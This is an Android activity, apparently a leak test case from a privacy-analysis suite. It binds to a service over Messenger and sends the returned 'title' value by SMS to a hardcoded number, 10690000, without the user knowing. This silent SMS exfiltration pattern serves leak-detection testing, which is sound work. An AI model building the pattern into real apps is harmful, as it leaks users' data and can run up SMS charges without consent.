package cn.privlens.suite.messenger_reply_other;

import android.app.Activity;
import android.content.ComponentName;
import android.content.Intent;
import android.content.ServiceConnection;
import android.os.Bundle;
import android.os.Handler;
import android.os.IBinder;
import android.os.Looper;
import android.os.Message;
import android.os.Messenger;
import android.os.RemoteException;
import android.telephony.SmsManager;

public class Main extends Activity {
    private final Messenger inbox = new Messenger(new Handler(Looper.getMainLooper()) {
        @Override
        public void handleMessage(Message message) {
            if (message.what == CardService.ANSWER) {
                Bundle data = message.getData();
                SmsManager.getDefault().sendTextMessage("10690000", null, data.getString("title"), null, null);
            }
        }
    });

    private final ServiceConnection connection = new ServiceConnection() {
        @Override
        public void onServiceConnected(ComponentName name, IBinder binder) {
            Message message = Message.obtain(null, CardService.ASK);
            message.replyTo = inbox;
            try {
                new Messenger(binder).send(message);
            } catch (RemoteException e) {
                finish();
            }
        }

        @Override
        public void onServiceDisconnected(ComponentName name) {}
    };

    @Override
    protected void onStart() {
        super.onStart();
        bindService(new Intent(this, CardService.class), connection, BIND_AUTO_CREATE);
    }

    @Override
    protected void onStop() {
        unbindService(connection);
        super.onStop();
    }
}
